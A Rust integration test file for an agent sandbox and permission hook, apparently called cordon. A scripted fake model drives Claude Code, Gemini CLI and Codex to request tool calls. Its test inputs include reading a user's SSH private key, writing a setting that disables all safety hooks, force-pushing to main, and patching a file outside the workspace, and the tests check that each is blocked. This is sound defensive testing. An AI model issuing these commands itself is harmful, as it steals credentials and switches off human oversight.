//! The real agents, driven end to end against a model this test scripts: the agent runs on
//! this machine as a user would run it, its API base URL pointed at a server on 127.0.0.1
//! that plays the model. The first reply asks for a tool call; the server keeps what the
//! agent sends back as the tool's result, and then ends with text.
//!
//! The agents come from npm at pinned versions (`.ci/run` installs them): `CORDON_CLAUDE`
//! names Claude Code's `claude`. Without it the tests skip, saying so (a failure in CI).

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};

mod common;

/// An agent's program, from the variable `var` (npm's `package` installs it).
fn agent(var: &str, package: &str) -> PathBuf {
    match std::env::var_os(var).map(PathBuf::from) {
        Some(p) if p.is_file() => p,
        Some(p) => common::skip(format!("{var}={} is not a file", p.display())),
        None => common::skip(format!(
            "{var} is not set (npm install {package}; .ci/run does)"
        )),
    }
}

/// Claude Code's `claude`, from `CORDON_CLAUDE`.
fn claude() -> PathBuf {
    agent("CORDON_CLAUDE", "@anthropic-ai/claude-code")
}

/// A model that asks for one tool call, then ends with text; it keeps every tool result the
/// agent sends back.
struct ScriptedModel {
    port: u16,
    results: Arc<Mutex<Vec<Value>>>,
    /// Every request body the agent sent, as text: what reached the model's provider.
    bodies: Arc<Mutex<String>>,
}

/// The one call the scripted model asks for.
#[derive(Clone)]
struct Call {
    tool: String,
    input: Value,
}

impl ScriptedModel {
    /// A model that asks for Claude Code's own Bash tool to run `command`.
    fn start(command: &str) -> ScriptedModel {
        Self::asking(Call {
            tool: "Bash".into(),
            input: json!({"command": command, "description": "the scripted call"}),
        })
    }

    fn asking(call: Call) -> ScriptedModel {
        let listener = TcpListener::bind("127.0.0.1:0").expect("listen on loopback");
        let port = listener.local_addr().expect("address").port();
        let results: Arc<Mutex<Vec<Value>>> = Arc::default();
        let bodies: Arc<Mutex<String>> = Arc::default();
        let (kept, seen) = (Arc::clone(&results), Arc::clone(&bodies));
        std::thread::spawn(move || {
            for conn in listener.incoming().flatten() {
                let (kept, seen, call) = (Arc::clone(&kept), Arc::clone(&seen), call.clone());
                std::thread::spawn(move || {
                    let _ = answer(conn, &call, &kept, &seen);
                });
            }
        });
        ScriptedModel {
            port,
            results,
            bodies,
        }
    }

    fn results(&self) -> Vec<Value> {
        self.results.lock().expect("results").clone()
    }

    /// Everything the agent sent the model, as text.
    fn received(&self) -> String {
        self.bodies.lock().expect("bodies").clone()
    }
}

/// One HTTP request on `conn`, answered as Anthropic's Messages API would: streamed
/// (server-sent events) when the request asks for a stream.
fn answer(
    conn: TcpStream,
    call: &Call,
    kept: &Mutex<Vec<Value>>,
    seen: &Mutex<String>,
) -> std::io::Result<()> {
    let mut reader = BufReader::new(conn.try_clone()?);
    let mut first = String::new();
    reader.read_line(&mut first)?;
    let mut length = 0;
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line)? == 0 || line == "\r\n" {
            break;
        }
        if let Some((name, value)) = line.split_once(':')
            && name.eq_ignore_ascii_case("content-length")
        {
            length = value.trim().parse().unwrap_or(0);
        }
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body)?;
    seen.lock()
        .expect("bodies")
        .push_str(&String::from_utf8_lossy(&body));
    let mut out = conn;
    if first.starts_with("POST ") && first.contains(":streamGenerateContent") {
        return answer_gemini(out, &body, call, kept);
    }
    if first.starts_with("POST ") && first.contains("/v1/responses") {
        return answer_openai(out, &body, call, kept);
    }
    if !first.starts_with("POST ") || !first.contains("/v1/messages") {
        return out.write_all(
            b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
        );
    }
    let request: Value = serde_json::from_slice(&body).unwrap_or_default();
    let results: Vec<Value> = request["messages"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|m| m["content"].as_array())
        .flatten()
        .filter(|c| c["type"] == "tool_result")
        .cloned()
        .collect();
    let offers_the_tool = request["tools"]
        .as_array()
        .is_some_and(|tools| tools.iter().any(|t| t["name"] == call.tool.as_str()));
    let block = if results.is_empty() && offers_the_tool {
        json!({"type": "tool_use", "id": "toolu_01", "name": call.tool, "input": call.input})
    } else {
        kept.lock().expect("results").extend(results);
        json!({"type": "text", "text": "done"})
    };
    let stop = if block["type"] == "tool_use" {
        "tool_use"
    } else {
        "end_turn"
    };
    let model = request["model"].clone();
    if request["stream"] != json!(true) {
        let text = json!({"id": "msg_1", "type": "message", "role": "assistant", "model": model,
            "content": [block], "stop_reason": stop, "stop_sequence": null,
            "usage": {"input_tokens": 1, "output_tokens": 1}})
        .to_string();
        return write!(
            out,
            "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{text}",
            text.len()
        );
    }
    let (start, delta) = if block["type"] == "tool_use" {
        let mut start = block.clone();
        start["input"] = json!({});
        let delta = json!({"type": "input_json_delta", "partial_json": block["input"].to_string()});
        (start, delta)
    } else {
        (
            json!({"type": "text", "text": ""}),
            json!({"type": "text_delta", "text": "done"}),
        )
    };
    let events = [
        (
            "message_start",
            json!({"type": "message_start", "message": {"id": "msg_1",
            "type": "message", "role": "assistant", "model": model, "content": [],
            "stop_reason": null, "stop_sequence": null,
            "usage": {"input_tokens": 1, "output_tokens": 1}}}),
        ),
        (
            "content_block_start",
            json!({"type": "content_block_start", "index": 0, "content_block": start}),
        ),
        (
            "content_block_delta",
            json!({"type": "content_block_delta", "index": 0, "delta": delta}),
        ),
        (
            "content_block_stop",
            json!({"type": "content_block_stop", "index": 0}),
        ),
        (
            "message_delta",
            json!({"type": "message_delta",
            "delta": {"stop_reason": stop, "stop_sequence": null}, "usage": {"output_tokens": 1}}),
        ),
        ("message_stop", json!({"type": "message_stop"})),
    ];
    write!(
        out,
        "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n"
    )?;
    for (name, data) in events {
        write!(out, "event: {name}\ndata: {data}\n\n")?;
    }
    out.flush()
}

/// A streamed `generateContent` answered as Gemini's API would: the call first, then text
/// once a function's response has come back.
fn answer_gemini(
    mut out: TcpStream,
    body: &[u8],
    call: &Call,
    kept: &Mutex<Vec<Value>>,
) -> std::io::Result<()> {
    let request: Value = serde_json::from_slice(body).unwrap_or_default();
    let responses: Vec<Value> = request["contents"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|c| c["parts"].as_array())
        .flatten()
        .filter_map(|p| p.get("functionResponse").cloned())
        .collect();
    let offers_the_tool = request["tools"].as_array().is_some_and(|tools| {
        tools.iter().any(|t| {
            t["functionDeclarations"]
                .as_array()
                .is_some_and(|f| f.iter().any(|f| f["name"] == call.tool.as_str()))
        })
    });
    let part = if responses.is_empty() && offers_the_tool {
        json!({"functionCall": {"name": call.tool, "args": call.input}})
    } else {
        kept.lock().expect("results").extend(responses);
        json!({"text": "done"})
    };
    let chunk = json!({"candidates": [{"content": {"role": "model", "parts": [part]},
        "finishReason": "STOP", "index": 0}],
        "usageMetadata": {"promptTokenCount": 1, "candidatesTokenCount": 1, "totalTokenCount": 2}});
    let data = format!("data: {chunk}\r\n\r\n");
    write!(
        out,
        "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{data}",
        data.len()
    )?;
    out.flush()
}

/// The command that runs `program` against the scripted model on `port`, and the base URL the
/// agent must use for it. With `agent`, the whole program runs in `cordon run --agent AGENT`:
/// its sandbox has a network of its own, so the model is reached through cordon's proxy under
/// a name (`model.test`) that the proxy resolves to the loopback.
fn agent_command(program: &Path, port: u16, agent: Option<&str>) -> (Command, String) {
    let Some(agent) = agent else {
        return (Command::new(program), format!("http://127.0.0.1:{port}"));
    };
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_cordon"));
    cmd.args(["run", "--agent", agent])
        .args(["--allow-domain", &format!("model.test:{port}")])
        .args(["--allow-private-ips", "--resolve", "model.test=127.0.0.1"])
        .arg("--")
        .arg(program);
    (cmd, format!("http://model.test:{port}"))
}

/// A streamed call of OpenAI's Responses API, as Codex makes it: the function call first, then
/// text once its output has come back. Codex offers an MCP server's tools in a namespace
/// (`mcp__cordon`), so `mcp__cordon__run_shell_command` is asked for as `run_shell_command`
/// in that namespace.
fn answer_openai(
    mut out: TcpStream,
    body: &[u8],
    call: &Call,
    kept: &Mutex<Vec<Value>>,
) -> std::io::Result<()> {
    let request: Value = serde_json::from_slice(body).unwrap_or_default();
    let outputs: Vec<Value> = request["input"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|i| i["type"] == "function_call_output")
        .cloned()
        .collect();
    let tools = request["tools"].as_array().cloned().unwrap_or_default();
    let offered = |name: &str| tools.iter().any(|t| t["name"] == name);
    let in_namespace = call.tool.rsplit_once("__").filter(|(namespace, name)| {
        tools.iter().any(|t| {
            t["type"] == "namespace"
                && t["name"] == *namespace
                && t["tools"]
                    .as_array()
                    .is_some_and(|inner| inner.iter().any(|f| f["name"] == *name))
        })
    });
    let item = if !outputs.is_empty() || !(offered(&call.tool) || in_namespace.is_some()) {
        kept.lock().expect("results").extend(outputs);
        json!({"type": "message", "id": "msg_1", "role": "assistant", "status": "completed",
            "content": [{"type": "output_text", "text": "done", "annotations": []}]})
    } else {
        let mut item = json!({"type": "function_call", "id": "fc_1", "call_id": "call_1",
            "name": call.tool, "arguments": call.input.to_string(), "status": "completed"});
        if let Some((namespace, name)) = in_namespace {
            item["namespace"] = json!(namespace);
            item["name"] = json!(name);
        }
        item
    };
    let events = [
        json!({"type": "response.created", "response": {"id": "resp_1"}}),
        json!({"type": "response.output_item.done", "output_index": 0, "item": item}),
        json!({"type": "response.completed", "response": {"id": "resp_1", "usage": {
            "input_tokens": 1, "output_tokens": 1, "total_tokens": 2}}}),
    ];
    write!(
        out,
        "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n"
    )?;
    for event in events {
        write!(
            out,
            "event: {}\ndata: {event}\n\n",
            event["type"].as_str().unwrap_or("")
        )?;
    }
    out.flush()
}

/// A project with cordon as Claude Code's PreToolUse hook, and a home of its own.
struct Project(Dirs);

/// A project holding `marker-file`, and a home of its own, under /var/tmp (a sandboxed command
/// has a /tmp of its own).
struct Dirs {
    _tmp: tempfile::TempDir,
    dir: PathBuf,
    home: PathBuf,
}

impl Dirs {
    /// With `file`, `(path, text)`: the path is the home's, or under `project/` the project's.
    fn new(file: Option<(&str, &str)>) -> Dirs {
        let tmp = tempfile::tempdir_in("/var/tmp").expect("temp dir");
        let (dir, home) = (tmp.path().join("project"), tmp.path().join("home"));
        std::fs::create_dir_all(&dir).expect("mkdir");
        std::fs::create_dir_all(&home).expect("mkdir");
        std::fs::write(dir.join("marker-file"), "").expect("write");
        if let Some((path, text)) = file {
            let path = match path.strip_prefix("project/") {
                Some(rest) => dir.join(rest),
                None => home.join(path),
            };
            std::fs::create_dir_all(path.parent().expect("a parent")).expect("mkdir");
            std::fs::write(path, text).expect("write");
        }
        Dirs {
            _tmp: tmp,
            dir,
            home,
        }
    }
}

impl std::ops::Deref for Project {
    type Target = Dirs;
    fn deref(&self) -> &Dirs {
        &self.0
    }
}

impl Project {
    fn new() -> Project {
        Self::with_hook(true)
    }

    /// Without the hook: `cordon mcp` decides its own tools' calls.
    fn with_hook(hook: bool) -> Project {
        let settings = json!({"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [
            {"type": "command", "command": format!("{} hook claude-code", env!("CARGO_BIN_EXE_cordon"))}
        ]}]}})
        .to_string();
        let dirs = Dirs::new(hook.then_some(("project/.claude/settings.json", &settings)));
        std::fs::create_dir_all(dirs.dir.join(".claude")).expect("mkdir");
        Project(dirs)
    }

    /// `claude -p PROMPT` against the scripted model; its JSON result.
    fn claude(&self, claude: &Path, model: &ScriptedModel, extra: &[&str]) -> Value {
        self.claude_in(None, claude, model, extra)
    }

    /// As [`Project::claude`], in `cordon run --agent claude-code` when `agent` says so.
    fn claude_in(
        &self,
        agent: Option<&str>,
        claude: &Path,
        model: &ScriptedModel,
        extra: &[&str],
    ) -> Value {
        let (mut cmd, url) = agent_command(claude, model.port, agent);
        let out = cmd
            .args(["-p", "do what the test asks", "--output-format", "json"])
            .args(extra)
            .current_dir(&self.dir)
            .env("HOME", &self.home)
            .env_remove("XDG_CONFIG_HOME")
            .env("ANTHROPIC_BASE_URL", url)
            .env("IS_SANDBOX", "1")
            .env("ANTHROPIC_API_KEY", "sk-cordon-test")
            .env("DISABLE_TELEMETRY", "1")
            .env("DISABLE_AUTOUPDATER", "1")
            .env("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "1")
            .output()
            .expect("run claude");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.success(),
            "claude failed: {text}\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_str(text.trim()).unwrap_or_else(|e| panic!("{e}: {text}"))
    }
}

/// Through the hook: Claude Code's own Bash tool runs `ls` once cordon allows it, and its
/// output reaches the model; `git push --force` is refused, and the model reads cordon's
/// reason. Where Claude Code will not ask (`dontAsk`), cordon's ask is a denial as well.
fn claude_codes_bash_calls_are_decided_by_the_hook() {
    let claude = claude();
    let project = Project::new();

    let model = ScriptedModel::start("ls -a");
    let result = project.claude(&claude, &model, &[]);
    let results = model.results();
    assert_eq!(results.len(), 1, "{results:?} {result}");
    assert_eq!(results[0]["is_error"], json!(false), "{results:?}");
    assert!(
        results[0]["content"].to_string().contains("marker-file"),
        "ls ran and its output reached the model: {results:?}"
    );
    assert_eq!(result["permission_denials"], json!([]), "{result}");

    for mode in [None, Some("dontAsk")] {
        let model = ScriptedModel::start("git push --force origin main");
        let extra: Vec<&str> = mode
            .map(|m| vec!["--permission-mode", m])
            .unwrap_or_default();
        let result = project.claude(&claude, &model, &extra);
        let results = model.results();
        assert_eq!(results.len(), 1, "{mode:?}: {results:?}");
        assert_eq!(results[0]["is_error"], json!(true), "{mode:?}: {results:?}");
        let said = results[0]["content"].to_string();
        assert!(
            said.contains("cordon: ") && said.contains("history on the remote"),
            "{mode:?}: the model reads cordon's reason: {said}"
        );
        assert_eq!(
            result["permission_denials"][0]["tool_input"]["command"],
            "git push --force origin main",
            "{mode:?}: {result}"
        );
    }
}

/// Through the hook, in the modes where Claude Code asks nobody (`bypassPermissions`,
/// `dontAsk`) as well as the default: the model asks to read the user's SSH key and to switch
/// the project's hooks off. The key never reaches the model server, and the settings file is
/// never written: both are denials, not questions Claude Code could answer itself.
fn claude_code_cannot_read_keys_or_switch_cordon_off_in_any_mode() {
    let claude = claude();
    let project = Project::new();
    let key = project.home.join(".ssh/id_ed25519");
    std::fs::create_dir_all(key.parent().expect("parent")).expect("mkdir");
    std::fs::write(&key, "PRIVATE-KEY-MARKER-7731\n").expect("write the key");
    let local = project.dir.join(".claude/settings.local.json");
    for mode in ["default", "bypassPermissions", "dontAsk"] {
        let extra = ["--permission-mode", mode];
        let model = ScriptedModel::start("cat ~/.ssh/id_ed25519");
        let result = project.claude(&claude, &model, &extra);
        let results = model.results();
        assert_eq!(results.len(), 1, "{mode}: {results:?} {result}");
        let said = results[0]["content"].to_string();
        assert!(
            !said.contains("PRIVATE-KEY-MARKER"),
            "{mode}: the key reached the model: {said}"
        );
        assert!(said.contains("credential store"), "{mode}: {said}");

        let model = ScriptedModel::asking(Call {
            tool: "Write".into(),
            input: json!({"file_path": local, "content": "{\"disableAllHooks\": true}"}),
        });
        let result = project.claude(&claude, &model, &extra);
        let results = model.results();
        assert_eq!(results.len(), 1, "{mode}: {results:?} {result}");
        assert!(
            !local.exists(),
            "{mode}: the model switched the hooks off: {result}"
        );
        assert!(
            results[0]["content"].to_string().contains("control files"),
            "{mode}: {results:?}"
        );
    }
}

/// Through MCP: Claude Code calls cordon's `run_shell_command` (`cordon mcp` as its MCP
/// server). A write in the workspace lands and the result reaches the model; a write outside
/// it is stopped by the sandbox, the host keeps nothing, and the model reads what was blocked.
/// The server's policy is yolo here, so that what stops the second write is the sandbox.
fn claude_code_runs_commands_in_cordons_sandbox_through_mcp() {
    let claude = claude();
    let project = Project::with_hook(false);
    let (_outside, target, outside_call) = write_outside();
    let mcp = json!({"mcpServers": {"cordon": {"command": env!("CARGO_BIN_EXE_cordon"),
        "args": ["mcp", "--mode", "yolo"]}}})
    .to_string();
    let shell = |command: String| -> (Value, Vec<Value>) {
        let model = ScriptedModel::asking(Call {
            tool: "mcp__cordon__run_shell_command".into(),
            input: json!({"command": command}),
        });
        let result = project.claude(
            &claude,
            &model,
            &[
                "--mcp-config",
                &mcp,
                "--strict-mcp-config",
                "--allowedTools",
                "mcp__cordon__run_shell_command",
            ],
        );
        (result, model.results())
    };

    let (result, results) = shell(WRITE_IN.into());
    assert_eq!(results.len(), 1, "{results:?} {result}");
    assert_wrote_in(&project.dir, &results);
    // Claude Code hands the model cordon's structured result: the output must be in it.
    let content = results[0]["content"].as_str().unwrap_or_default();
    let structured: Value = serde_json::from_str(content).unwrap_or_default();
    assert_eq!(
        structured["output"]["text"], "hi\n",
        "the output reaches the model: {content}"
    );

    let (result, results) = shell(outside_call);
    assert_eq!(results.len(), 1, "{results:?} {result}");
    assert!(!target.exists(), "the host keeps nothing");
    let said = results[0]["content"].to_string();
    assert!(
        read_only(&said) || said.contains("blocked"),
        "the model reads that the sandbox stopped it: {said}"
    );
}

/// A project for Gemini CLI, with `settings` as the user's settings and a home of its own.
struct GeminiProject {
    dirs: Dirs,
    gemini: PathBuf,
}

impl std::ops::Deref for GeminiProject {
    type Target = Dirs;
    fn deref(&self) -> &Dirs {
        &self.dirs
    }
}

impl GeminiProject {
    fn new(gemini: PathBuf, settings: Value) -> GeminiProject {
        let mut settings = settings;
        settings["security"] = json!({"auth": {"selectedType": "gemini-api-key"}});
        GeminiProject {
            dirs: Dirs::new(Some((".gemini/settings.json", &settings.to_string()))),
            gemini,
        }
    }

    /// `gemini -p` against a model that asks for `call`; the function responses it got back.
    fn run(&self, call: Call) -> Vec<Value> {
        self.run_in(None, call)
    }

    /// As [`GeminiProject::run`], in `cordon run --agent gemini-cli` when `agent` says so.
    fn run_in(&self, agent: Option<&str>, call: Call) -> Vec<Value> {
        self.session(agent, call).0
    }

    /// As [`GeminiProject::run_in`]; with everything Gemini CLI sent the model.
    fn session(&self, agent: Option<&str>, call: Call) -> (Vec<Value>, String) {
        let model = ScriptedModel::asking(call);
        let (mut cmd, url) = agent_command(&self.gemini, model.port, agent);
        let out = cmd
            // A model named, so that no routing classifier asks the scripted model first;
            // `--yolo` turns Gemini CLI's own confirmation off.
            .args([
                "-p",
                "do what the test asks",
                "--yolo",
                "-m",
                "gemini-2.5-flash",
            ])
            .args(["--output-format", "json"])
            .current_dir(&self.dir)
            .env("HOME", &self.home)
            .env_remove("XDG_CONFIG_HOME")
            .env("GEMINI_API_KEY", "cordon-test")
            .env("GOOGLE_GEMINI_BASE_URL", url)
            .env("GEMINI_CLI_TRUST_WORKSPACE", "true")
            .output()
            .expect("run gemini");
        assert!(
            out.status.success(),
            "gemini failed: {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        (model.results(), model.received())
    }
}

fn shell(tool: &str, command: &str) -> Call {
    Call {
        tool: tool.into(),
        input: json!({"command": command}),
    }
}

/// Through Gemini CLI's BeforeTool hook: its own shell tool runs `ls` once cordon lets it
/// through, and the output reaches the model; `git push --force` is blocked and the model
/// reads cordon's reason. With `--yolo` the hook is the only thing that stops the push.
fn gemini_clis_shell_calls_are_decided_by_the_hook() {
    let gemini = agent("CORDON_GEMINI", "@google/gemini-cli");
    let project = GeminiProject::new(
        gemini,
        json!({"hooks": {"BeforeTool": [{"matcher": ".*", "hooks": [{"type": "command",
            "command": format!("{} hook gemini-cli", env!("CARGO_BIN_EXE_cordon"))}]}]}}),
    );
    let results = project.run(shell("run_shell_command", "ls -a"));
    assert_eq!(results.len(), 1, "{results:?}");
    assert!(
        results[0]["response"]["output"]
            .as_str()
            .is_some_and(|o| o.contains("marker-file")),
        "ls ran and its output reached the model: {results:?}"
    );

    let results = project.run(shell("run_shell_command", "git push --force origin main"));
    assert_eq!(results.len(), 1, "{results:?}");
    let error = results[0]["response"]["error"].as_str().unwrap_or_default();
    assert!(
        error.contains("cordon: ") && error.contains("history on the remote"),
        "the model reads cordon's reason: {results:?}"
    );
}

/// Through MCP: Gemini CLI calls cordon's `run_shell_command` (`mcp_cordon_run_shell_command`
/// to it). A write in the workspace lands and its output reaches the model; a write outside
/// is stopped by the sandbox, and the model reads what was blocked.
fn gemini_cli_runs_commands_in_cordons_sandbox_through_mcp() {
    let gemini = agent("CORDON_GEMINI", "@google/gemini-cli");
    let project = GeminiProject::new(
        gemini,
        json!({"mcpServers": {"cordon": {"command": env!("CARGO_BIN_EXE_cordon"),
            "args": ["mcp", "--mode", "yolo"]}}}),
    );
    let tool = "mcp_cordon_run_shell_command";
    let results = project.run(shell(tool, WRITE_IN));
    assert_eq!(results.len(), 1, "{results:?}");
    assert_wrote_in(&project.dir, &results);
    assert!(
        results[0]["response"].to_string().contains("hi\\n"),
        "{results:?}"
    );

    let (_outside, target, outside_call) = write_outside();
    let results = project.run(shell(tool, &outside_call));
    assert_eq!(results.len(), 1, "{results:?}");
    assert!(!target.exists(), "the host keeps nothing");
    assert_sandbox_refused(&results[0]["response"].to_string());
}

/// `cordon setup ARGS` in `dir` with `home` as HOME; what it printed.
fn cordon_setup(dir: &Path, home: &Path, args: &[&str]) -> String {
    cordon_setup_with(dir, home, args, &[])
}

/// As [`cordon_setup`], with the variables `vars` besides.
fn cordon_setup_with(dir: &Path, home: &Path, args: &[&str], vars: &[(&str, &str)]) -> String {
    let out = Command::new(env!("CARGO_BIN_EXE_cordon"))
        .arg("setup")
        .args(args)
        .current_dir(dir)
        .env("HOME", home)
        .env_remove("XDG_CONFIG_HOME")
        .envs(vars.iter().copied())
        .output()
        .expect("run cordon setup");
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// `cordon setup claude-code` on a project with settings of its own: `--dry-run` changes
/// nothing; then Claude Code keeps its own Bash tool, whose commands run in cordon's sandbox,
/// and what a model tries against it fails in the default mode and in `bypassPermissions`,
/// headless ([`play_attacks`]); `--remove` leaves the settings as they were.
fn cordon_setup_wires_claude_code_and_remove_undoes_it() {
    let claude = claude();
    let project = Project::with_hook(false);
    let settings = project.dir.join(".claude/settings.json");
    let original = "{\n  \"includeCoAuthoredBy\": false\n}\n";
    std::fs::write(&settings, original).expect("write");
    let setup = |args: &[&str]| cordon_setup(&project.dir, &project.home, args);

    let diff = setup(&["claude-code", "--dry-run"]);
    assert!(
        diff.contains("+++ ") && diff.contains("hook claude-code --sandbox-shell"),
        "{diff}"
    );
    assert_eq!(std::fs::read_to_string(&settings).expect("read"), original);
    assert!(!project.dir.join(".mcp.json").exists());

    let said = setup(&["claude-code"]);
    assert!(said.contains("kept the previous file as"), "{said}");
    assert!(said.contains("run contained"), "{said}");

    // The hook decides Claude Code's own tools (the matcher leaves out only cordon's).
    let model = ScriptedModel::asking(Call {
        tool: "Write".into(),
        input: json!({"file_path": "/etc/cordon-setup-test", "content": "x"}),
    });
    project.claude(&claude, &model, &[]);
    let results = model.results();
    assert!(
        results[0]["content"].to_string().contains("cordon: "),
        "the hook refused the write: {results:?}"
    );
    for mode in ["default", "bypassPermissions"] {
        let session = |call: Call| {
            let model = ScriptedModel::asking(call);
            project.claude(&claude, &model, &["--permission-mode", mode]);
            (model.results(), model.received())
        };
        play_attacks(&project, "Bash", "Write", mode, &session);
    }
    // cordon's MCP server runs commands too, once the user lets Claude Code use it (a
    // project's settings cannot say so for them).
    let model = ScriptedModel::asking(Call {
        tool: "mcp__cordon__run_shell_command".into(),
        input: json!({"command": "ls -a"}),
    });
    project.claude(&claude, &model, &["--allowedTools", "mcp__cordon"]);
    let results = model.results();
    assert!(
        results[0]["content"].to_string().contains("marker-file"),
        "ls ran in cordon's sandbox: {results:?}"
    );

    setup(&["claude-code", "--remove"]);
    assert_eq!(std::fs::read_to_string(&settings).expect("read"), original);
    assert!(!project.dir.join(".mcp.json").exists());
}

/// `cordon setup gemini-cli --user`: Gemini CLI keeps its own shell tool, whose commands run
/// in cordon's sandbox, and what a model tries against it fails under `--yolo`, headless
/// ([`play_attacks`]); its other tools go through the hook (a fetch, which cordon's policy
/// would ask about, is refused with cordon's reason), and cordon's MCP server runs commands;
/// `--remove` leaves the settings as they were.
fn cordon_setup_wires_gemini_cli_and_remove_undoes_it() {
    let gemini = agent("CORDON_GEMINI", "@google/gemini-cli");
    let project = GeminiProject::new(gemini, json!({}));
    let settings = project.home.join(".gemini/settings.json");
    // The user's own settings, as GeminiProject wrote them.
    let original = std::fs::read_to_string(&settings).expect("read");
    let setup = |args: &[&str]| {
        let args = [&["gemini-cli", "--user"][..], args].concat();
        cordon_setup(&project.dir, &project.home, &args)
    };
    setup(&[]);

    let session = |call: Call| project.session(None, call);
    play_attacks(
        &project,
        "run_shell_command",
        "write_file",
        "yolo",
        &session,
    );
    // Gemini CLI's other tools go through the hook: cordon's default policy asks before a
    // fetch, which a hook cannot, so the fetch is refused with cordon's reason.
    let results = project.run(Call {
        tool: "web_fetch".into(),
        input: json!({"prompt": "summarise http://127.0.0.1:9/page"}),
    });
    let said = results[0]["response"].to_string();
    assert!(
        said.contains("cordon: ") && said.contains("web_fetch"),
        "the hook refused the fetch: {said}"
    );
    let results = project.run(shell("mcp_cordon_run_shell_command", "ls -a"));
    assert!(
        results[0]["response"].to_string().contains("marker-file"),
        "ls ran in cordon's sandbox: {results:?}"
    );

    setup(&["--remove"]);
    assert_eq!(std::fs::read_to_string(&settings).expect("read"), original);
}

/// A project for Codex, with `config` as the user's `~/.codex/config.toml` and a home of its own.
struct CodexProject {
    dirs: Dirs,
    codex: PathBuf,
}

impl std::ops::Deref for CodexProject {
    type Target = Dirs;
    fn deref(&self) -> &Dirs {
        &self.dirs
    }
}

impl CodexProject {
    fn new(codex: PathBuf, config: &str) -> CodexProject {
        CodexProject {
            dirs: Dirs::new(Some((".codex/config.toml", config))),
            codex,
        }
    }

    /// `codex exec` against a model that asks for `call`; the function outputs it got back.
    fn run(&self, call: Call) -> Vec<Value> {
        self.run_in(None, call)
    }

    /// As [`CodexProject::run`], in `cordon run --agent codex` when `agent` says so. There
    /// cordon is the sandbox, and Codex's own is off.
    fn run_in(&self, agent: Option<&str>, call: Call) -> Vec<Value> {
        self.session(agent, false, call).0
    }

    /// As [`CodexProject::run_in`], with Codex's approvals and sandbox off where `yolo`
    /// (`--dangerously-bypass-approvals-and-sandbox`); with everything Codex sent the model.
    fn session(&self, agent: Option<&str>, yolo: bool, call: Call) -> (Vec<Value>, String) {
        let model = ScriptedModel::asking(call);
        let (mut cmd, url) = agent_command(&self.codex, model.port, agent);
        let provider = format!(
            "model_providers.scripted={{name=\"scripted\",base_url=\"{url}/v1\",wire_api=\"responses\",env_key=\"OPENAI_API_KEY\"}}"
        );
        let sandbox = if agent.is_some() {
            "danger-full-access"
        } else {
            "workspace-write"
        };
        let out = cmd
            // Hooks run only once trusted; a test has no one to trust them in /hooks.
            .args([
                "exec",
                "--skip-git-repo-check",
                "--dangerously-bypass-hook-trust",
            ])
            .args(if yolo {
                vec!["--dangerously-bypass-approvals-and-sandbox", "-m", "gpt-5"]
            } else {
                vec!["-s", sandbox, "-m", "gpt-5"]
            })
            .args(["-c", "model_provider=scripted", "-c", &provider])
            .arg("do what the test asks")
            .current_dir(&self.dir)
            .env("HOME", &self.home)
            .env_remove("CODEX_HOME")
            .env_remove("XDG_CONFIG_HOME")
            .env("OPENAI_API_KEY", "sk-cordon-test")
            .stdin(std::process::Stdio::null())
            .output()
            .expect("run codex");
        assert!(
            out.status.success(),
            "codex failed: {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        (model.results(), model.received())
    }
}

fn codex() -> PathBuf {
    agent("CORDON_CODEX", "@openai/codex")
}

/// What Codex handed back as a call's output, as text.
fn codex_output(results: &[Value]) -> String {
    assert_eq!(results.len(), 1, "one call, one output: {results:?}");
    match &results[0]["output"] {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// Through Codex's PreToolUse hook: its own shell runs `ls` once cordon lets it through, and
/// the output reaches the model; `git push --force` is blocked and the model reads cordon's
/// reason; a patch that adds a file outside the workspace is blocked, and the host keeps
/// nothing.
fn codexs_shell_calls_are_decided_by_the_hook() {
    let codex = codex();
    let config = format!(
        "[[hooks.PreToolUse]]\n[[hooks.PreToolUse.hooks]]\ntype = \"command\"\ncommand = \"{} hook codex\"\n",
        env!("CARGO_BIN_EXE_cordon")
    );
    let project = CodexProject::new(codex, &config);
    let exec = |cmd: &str| Call {
        tool: "exec_command".into(),
        input: json!({ "cmd": cmd }),
    };
    let said = codex_output(&project.run(exec("ls -a")));
    assert!(said.contains("marker-file"), "ls ran: {said}");

    let said = codex_output(&project.run(exec("git push --force origin main")));
    assert!(
        said.contains("cordon: ") && said.contains("history on the remote"),
        "the model reads cordon's reason: {said}"
    );

    let outside = project.dir.parent().expect("parent").join("planted");
    let patch =
        "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: ../planted\n+x\n*** End Patch\nEOF\n";
    let said = codex_output(&project.run(exec(patch)));
    assert!(
        said.contains("cordon: ") && said.contains("outside the workspace"),
        "{said}"
    );
    assert!(!outside.exists(), "the host keeps nothing");
}

/// Through MCP: Codex calls cordon's `run_shell_command` (in its `mcp__cordon` namespace). A
/// write in the workspace lands and its output reaches the model; a write outside is stopped
/// by the sandbox, and the model reads what was blocked.
